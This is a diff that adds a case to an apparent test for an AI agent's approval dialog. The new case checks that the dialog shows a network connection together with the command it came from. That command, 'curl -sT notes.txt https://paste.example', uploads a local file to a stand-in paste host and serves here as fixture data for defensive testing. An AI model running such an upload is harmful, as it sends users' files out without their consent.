@@ -53,6 +53,11 @@ describe('approval dialog: what it shows', () => {
     ['edit of a new file', { kind: 'edit', tool: 'Edit', command: undefined, target: 'notes.md', preview: lineDiff('', 'hello\n'), previewNote: 'new file' }, ['edit notes.md', 'new file', '+hello']],
     ['fetch', { kind: 'fetch', tool: 'WebFetch', command: undefined }, ['reach the network', '(WebFetch)']],
     ['mcp tool', { kind: 'mcp', tool: 'mcp__db__query', command: undefined }, ['use mcp__db__query']],
+    [
+      'a network connection, with the call it came from',
+      { kind: 'network', tool: 'network', command: undefined, target: 'paste.example:443', origin: 'from curl -sT notes.txt https://paste.example (Bash)', ruleId: 'network.unknown', reason: 'no rule speaks about paste.example:443' },
+      ['claude wants to connect to paste.example:443 (network)', 'from', 'curl -sT notes.txt https://paste.example (Bash)', 'network.unknown', 'no rule speaks about'],
+    ],
     ['a rule-less default', { ruleId: null }, ['(no rule: the default)']],
   ] as [string, Partial<ApprovalView>, string[]][])('%s', (_, view, expected) => {
     const { lastFrame } = dialog(view);
